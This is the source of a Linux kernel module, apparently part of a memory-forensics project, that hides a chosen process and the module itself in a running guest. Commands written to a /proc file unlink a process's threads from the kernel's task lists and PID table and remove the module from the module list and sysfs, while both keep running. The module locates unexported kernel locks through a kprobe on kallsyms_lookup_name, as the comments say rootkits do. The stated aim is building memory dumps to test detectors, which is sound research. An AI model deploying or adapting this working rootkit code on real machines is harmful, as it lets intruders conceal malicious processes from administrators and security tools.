// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/* A kernel module that hides a process, and itself, inside a running guest, as rootkits do that only unlink: what is hidden stays in
 * memory and goes on working. "process PID" or "module" is written to /proc/deepmem_hider; read from there is what was hidden, a line each:
 * the structure, its address, its number (0 of the module), its name.
 *
 * The locks that it needs aren't exported; they are found by name, as rootkits find them: through a probe on kallsyms_lookup_name.
 * Licence: Apache-2.0 as the rest of DeepMem, or GPL-2.0, which is what it tells the kernel: that gives probes to GPL modules only. */
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/proc_fs.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>
#include <linux/version.h>

enum { MAX_THREADS = 16 };

static rwlock_t *processes_lock;   /* tasklist_lock */
static spinlock_t *numbers_lock;   /* pidmap_lock */
static struct mutex *modules_lock; /* module_mutex */
static struct task_struct *hidden[MAX_THREADS];
static int hidden_count;
static bool module_hidden;
static DEFINE_MUTEX(orders);

/* Out of the lists of processes and of threads. Readers may stand on an entry still, so it leads on to where it led. */
static void unlink_lists(struct task_struct *task)
{
	if (thread_group_leader(task)) {
		list_del_rcu(&task->tasks);
		return;
	}
	list_del_rcu(&task->thread_node);
#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
	list_del_rcu(&task->thread_group);
#endif
}

/* Nobody stands on the entry any more: it leads to itself, as one that is in no list. */
static void close_lists(struct task_struct *task)
{
	if (thread_group_leader(task)) {
		INIT_LIST_HEAD(&task->tasks);
		return;
	}
	INIT_LIST_HEAD(&task->thread_node);
#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
	INIT_LIST_HEAD(&task->thread_group);
#endif
}

/* Out of the table of numbers: from each number's list of tasks, and its own number from the table. */
static void unlink_number(struct task_struct *task)
{
	struct pid *pid = task->thread_pid;
	int i;

	for (i = 0; i < PIDTYPE_MAX; i++)
		if (!hlist_unhashed(&task->pid_links[i]))
			hlist_del_init_rcu(&task->pid_links[i]);
	spin_lock(numbers_lock);
	for (i = 0; i <= pid->level; i++)
		idr_remove(&pid->numbers[i].ns->idr, pid->numbers[i].nr);
	spin_unlock(numbers_lock);
}

static int hide_process(int number)
{
	struct pid *pid = find_get_pid(number);
	struct task_struct *leader = pid ? get_pid_task(pid, PIDTYPE_TGID) : NULL; /* both are kept for good */
	struct task_struct *task;
	int i, count = 0;

	if (!leader)
		return -ESRCH;
	if (hidden_count)
		return -EBUSY;
	write_lock_irq(processes_lock);
	for_each_thread(leader, task)
		if (count < MAX_THREADS)
			hidden[count++] = get_task_struct(task);
	for (i = 0; i < count; i++) {
		unlink_lists(hidden[i]);
		unlink_number(hidden[i]);
	}
	write_unlock_irq(processes_lock);
	synchronize_rcu();
	for (i = 0; i < count; i++)
		close_lists(hidden[i]);
	hidden_count = count;
	return 0;
}

static int hide_module(void)
{
	if (module_hidden)
		return -EBUSY;
	mutex_lock(modules_lock);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(modules_lock);
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	module_hidden = true;
	return 0;
}

static ssize_t obey(struct file *file, const char __user *from, size_t size, loff_t *at)
{
	char order[32];
	int number, error = -EINVAL;

	if (size >= sizeof(order))
		return -EINVAL;
	if (copy_from_user(order, from, size))
		return -EFAULT;
	order[size] = 0;
	mutex_lock(&orders);
	if (sscanf(order, "process %d", &number) == 1)
		error = hide_process(number);
	else if (strcmp(order, "module") == 0)
		error = hide_module();
	mutex_unlock(&orders);
	return error ? error : size;
}

static int show(struct seq_file *out, void *unused)
{
	int i;

	for (i = 0; i < hidden_count; i++) {
		struct task_struct *task = hidden[i];

		seq_printf(out, "task_struct 0x%lx %d %s\n", (unsigned long)task, task->pid, task->comm);
	}
	if (module_hidden)
		seq_printf(out, "module 0x%lx 0 %s\n", (unsigned long)THIS_MODULE, THIS_MODULE->name);
	return 0;
}

static int open(struct inode *inode, struct file *file)
{
	return single_open(file, show, NULL);
}

static const struct proc_ops operations = {
	.proc_open = open,
	.proc_read = seq_read,
	.proc_write = obey,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
};

static int __init hider_init(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*address_of)(const char *name);
	int error = register_kprobe(&probe);

	if (error)
		return error;
	address_of = (void *)probe.addr;
	unregister_kprobe(&probe);
	processes_lock = (void *)address_of("tasklist_lock");
	numbers_lock = (void *)address_of("pidmap_lock");
	modules_lock = (void *)address_of("module_mutex");
	if (!processes_lock || !numbers_lock || !modules_lock)
		return -ENOENT;
	return proc_create("deepmem_hider", 0600, NULL, &operations) ? 0 : -ENOMEM;
}

module_init(hider_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Hides a process and itself, for dumps to prove detectors with");
